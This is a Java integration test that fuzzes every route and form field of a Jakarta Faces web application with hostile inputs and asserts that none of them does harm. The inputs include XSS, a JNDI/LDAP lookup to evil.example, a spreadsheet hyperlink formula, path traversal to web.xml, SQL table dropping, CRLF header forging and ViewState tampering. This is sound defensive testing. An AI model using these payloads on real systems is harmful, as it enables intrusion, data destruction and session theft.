package org.prachum.attacks;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.file.Files;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.prachum.testing.Client;
import org.prachum.testing.Client.Answer;
import org.prachum.testing.House;

/**
 * What no person would type, into every parameter of every route and every field of every form, as a visitor and as an admin: never a
 * mistake of ours, nothing of the inside, no script alive; and on a form what was typed, beside a message.
 *
 * <p>Each field of a form, and each route, gets a sixth of the kinds, by turns, so that the routes and the longer forms meet them all; with
 * {@code PRACHUM_HOSTILE=all} in the environment each gets every kind, which takes some minutes.
 */
class HostileInputIT {

    private static final String MARK = "Qx7";
    private static final String FORM = "application/x-www-form-urlencoded";

    /** As they travel, so that some need not be text at all. */
    private static final Map<String, String> HOSTILE = new LinkedHashMap<>();

    static {
        HOSTILE.put("64 KB", MARK + "x".repeat(64 * 1024));
        HOSTILE.put("64 KB of dots", MARK + "a.".repeat(32 * 1024));
        HOSTILE.put("script", Form.encode("\"'><script>alert('" + MARK + "')</script>"));
        HOSTILE.put("expression", Form.encode("#{7919*104729}${7919*104729}" + MARK + "${jndi:ldap://evil.example/x}%s%n{0}"));
        HOSTILE.put("formula", Form.encode("=HYPERLINK(\"http://evil.example\",\"" + MARK + "\")"));
        HOSTILE.put("path", Form.encode("../../../../WEB-INF/web.xml" + MARK));
        HOSTILE.put("SQL", Form.encode(MARK + "'; drop table account; --\\"));
        HOSTILE.put("lines", Form.encode(MARK + "\r\nSet-Cookie: SID=evil\r\nFORGED by somebody\r\n\r\n<html>"));
        HOSTILE.put("NUL", MARK + "%00" + MARK);
        HOSTILE.put("a lone surrogate", MARK + "%ED%A0%80");
        HOSTILE.put("broken UTF-8", MARK + "%FF%FE%C0%AF");
        HOSTILE.put("broken escape", MARK + "%ZZ%");
        HOSTILE.put("unseen", Form.encode(MARK + "\u202E\u0000\uFEFF\u200B\uD83D\uDE00"));
        HOSTILE.put("negative", "-1");
        HOSTILE.put("the largest int", "2147483647");
        HOSTILE.put("10^30", "1" + "0".repeat(30));
        HOSTILE.put("no number", "1e400NaN");
        HOSTILE.put("nothing", "");
    }

    /** By kind: all parameters of all routes, each with that. */
    private static final Map<String, String> EVERY = HOSTILE.entrySet().stream().collect(Collectors.toMap(Map.Entry::getKey, kind ->
            Routes.parameters().stream().map(name -> name + "=" + kind.getValue()).collect(Collectors.joining("&"))));

    private static final int TURNS = "all".equals(System.getenv("PRACHUM_HOSTILE")) ? 1 : 6;

    static Scene scene;
    static Client ann;

    @BeforeAll
    static void build() {
        scene = Scene.of("House");
        ann = scene.admin();
    }

    @TestFactory
    Stream<DynamicTest> noParameterOfAnyRouteDoesHarm() {
        return Routes.all().stream().map(route -> dynamicTest(route, () -> kinds(Routes.all().indexOf(route)).forEach((kind, value) -> {
            String path = scene.path(route);
            String every = EVERY.get(kind);
            // Headers end at 32 KB, so of the long ones the address takes as much as fits.
            String query = "?" + every.substring(0, Math.min(every.length(), 20_000)).replace("%ZZ%", "%25ZZ").replaceFirst("%.?$", "");
            for (Client client : whoMayOpen(route)) {
                check(client.get(path + query), kind + " asked of " + path);
                if (!route.equals("/auth/logout")) {
                    check(client.postBody(path, FORM, every.getBytes(US_ASCII)), kind + " sent to " + path);
                }
            }
        })));
    }

    @TestFactory
    Stream<DynamicTest> noFieldOfAnyFormDoesHarmAndNothingTypedIsLost() {
        return Routes.all().stream()
                .filter(route -> !route.startsWith("/live") && !route.equals("/auth/logout"))
                .flatMap(route -> whoMayOpen(route).stream().flatMap(client -> {
                    String page = scene.path(route);
                    List<Form> forms = Form.of(page, client.get(page).body());
                    return IntStream.range(0, forms.size()).boxed().flatMap(at -> forms.get(at).fields().keySet().stream()
                            .filter(field -> !signsOut(forms.get(at)))
                            .map(field -> dynamicTest(page + " " + field, () -> attack(client, forms.get(at), page, at, field))));
                }));
    }

    @TestFactory
    Stream<DynamicTest> tooMuchOrTwiceOrOfTheWrongKindIsNoMistakeOfOurs() {
        String many = IntStream.range(0, 10_000).mapToObj(i -> "p" + i + "=1").collect(Collectors.joining("&"));
        String twice = Routes.parameters().stream().map(name -> name + "=1&" + name + "=2&" + name + "[]=3").collect(Collectors.joining("&"));
        return Routes.all().stream().filter(route -> !route.equals("/auth/logout")).map(route -> dynamicTest(route, () -> {
            String path = scene.path(route);
            check(ann.postBody(path, FORM, many.getBytes(US_ASCII)), "10,000 parameters to " + path);
            check(ann.postBody(path, FORM, twice.getBytes(US_ASCII)), "each twice to " + path);
            check(ann.get(path + "?" + twice), "each twice asked of " + path);
            for (String type : List.of("application/json", "multipart/form-data", "multipart/form-data; boundary=x", "text/xml",
                    FORM + "; charset=nonsense", "not a type", "multipart/form-data; boundary=" + "x".repeat(500))) {
                check(again(() -> ann.postBody(path, type, "--x\r\n{\"<?xml".getBytes(US_ASCII))), type + " to " + path);
            }
            for (String method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "HEAD")) {
                check(again(() -> ann.send(ann.request(path).header("Sec-Fetch-Site", "same-origin").method(method, BodyPublishers.noBody()))),
                        method + " " + path);
            }
            check(scene.visitor().with("Accept", "nonsense").with("Accept-Language", "x-;q=a,,\u00ff").with("Cookie", "a=\"b;;=;$Version=9; SID")
                    .with("If-Modified-Since", "never").with("If-None-Match", "W/").with("Range", "bytes=9-1,a").get(path), "odd headers to " + path);
        }));
    }

    /** The server ends the connection of whoever sent no whole body, and whoever comes next by the same one has to come again. */
    private static Answer again(Supplier<Answer> request) {
        try {
            return request.get();
        } catch (UncheckedIOException ended) {
            return request.get();
        }
    }

    /** What scripts of Faces send: a state that is none, a part that is none, a nonce of one's own, a view that is long gone. */
    @TestFactory
    Stream<DynamicTest> noPartOfFacesTakesNonsense() {
        List<String> nonsense = List.of(
                "jakarta.faces.ViewState=1:2",
                "jakarta.faces.ViewState=" + "A".repeat(5000),
                "jakarta.faces.ViewState=stateless&jakarta.faces.partial.ajax=true&jakarta.faces.source=x&jakarta.faces.partial.execute=%40all",
                "jakarta.faces.ViewState=-1%3A-1&jakarta.faces.partial.ajax=true&jakarta.faces.partial.render=../x%00",
                "omnifaces.event=unload&id=nonsense&jakarta.faces.ViewState=1:1",
                "primefaces.nonce=x'%20'unsafe-inline';script-src%20*&jakarta.faces.ViewState=1:1",
                "primefaces.nonce=x'%20'unsafe-inline'",
                "jakarta.faces.behavior.event=x&jakarta.faces.ClientWindow=%0d%0a");
        return Routes.all().stream().filter(route -> !route.equals("/auth/logout")).map(route -> dynamicTest(route, () -> {
            for (String body : nonsense) {
                for (Client client : whoMayOpen(route)) {
                    check(client.postBody(scene.path(route), FORM, body.getBytes(US_ASCII)), body + " to " + route);
                    check(client.get(scene.path(route) + "?" + body), body + " asked of " + route);
                }
            }
        }));
    }

    @Test
    void thereIsSomethingToAttack() {
        // Whoever attacks may have closed the meeting of the other scene.
        Scene untouched = Scene.of("Untouched");
        assertThat(Routes.parameters()).contains("emp_id", "email", "key", "import", "page", "topic", "capacity", "zone", "then");
        assertThat(Form.of("/x", untouched.visitor().get("/submit/1").body())).anyMatch(form -> form.typed().contains("emp_id"));
        assertThat(Form.of("/x", ann.get("/account").body())).anyMatch(form -> form.fields().containsKey("jakarta.faces.ViewState"));
    }

    @AfterAll
    static void nobodyWritesTheLog() throws IOException {
        assertThat(Files.readAllLines(House.open().server().log())).noneMatch(line -> line.startsWith("FORGED"));
    }

    /** An admin is not tried where a visitor gets as far. */
    private static List<Client> whoMayOpen(String route) {
        return List.of(Routes.needsSignIn(route) ? ann : scene.visitor());
    }

    private static Map<String, String> kinds(int turn) {
        Map<String, String> kinds = new LinkedHashMap<>(HOSTILE);
        List<String> names = List.copyOf(HOSTILE.keySet());
        kinds.keySet().removeIf(kind -> (names.indexOf(kind) + turn) % TURNS != 0);
        return kinds;
    }

    /** Whoever presses those has nothing more to attack. */
    private static boolean signsOut(Form form) {
        return form.action().equals("/auth/logout") || form.fields().keySet().stream().anyMatch(name -> name.endsWith("everywhere"));
    }

    private static void attack(Client client, Form seen, String page, int at, String field) {
        kinds(List.copyOf(seen.fields().keySet()).indexOf(field)).forEach((kind, value) -> {
            // A form with a state is good for one answer or so; any other for ever.
            List<Form> forms = seen.fields().containsKey("jakarta.faces.ViewState") ? Form.of(page, client.get(page).body()) : List.of();
            Form form = at < forms.size() ? forms.get(at) : seen;
            // A stranger asks for so many codes an hour, so each comes from an address of its own.
            Answer answer = (client == ann ? ann : scene.visitor()).postBody(form.action(), FORM, form.with(field, value));
            String what = kind + " in " + field + " of " + form.action();
            check(answer, what);
            // Many stand before a kiosk one after the other, so nothing that one of them typed stays there.
            if (answer.status() == 200 && form.typed().contains(field) && value.contains(MARK)
                    && !field.contains("otp") && !form.action().startsWith("/kiosk/") && !kind.equals("broken escape")) {
                assertThat(answer.body()).as(what + " stays").contains(MARK);
                assertThat(answer.body()).as(what + " is answered").containsPattern("-error\">|role=\"alert\"|role=\"status\"|ui-message");
            }
        });
    }

    private static void check(Answer answer, String what) {
        Harmless.check(answer, what);
        assertThat(answer.body()).as(what).doesNotContain("829348951", "<display-name>");
        if (answer.header("Content-Type").startsWith("text/html")) {
            assertThat(answer.body()).as(what).doesNotContain("<script>alert");
        }
        assertThat(answer.header("Set-Cookie")).as(what).doesNotContain("evil");
        assertThat(answer.header("Location")).as(what).doesNotContainPattern("^(\\w+:)?[/\\\\]{2}[^/]*evil\\.example");
    }
}
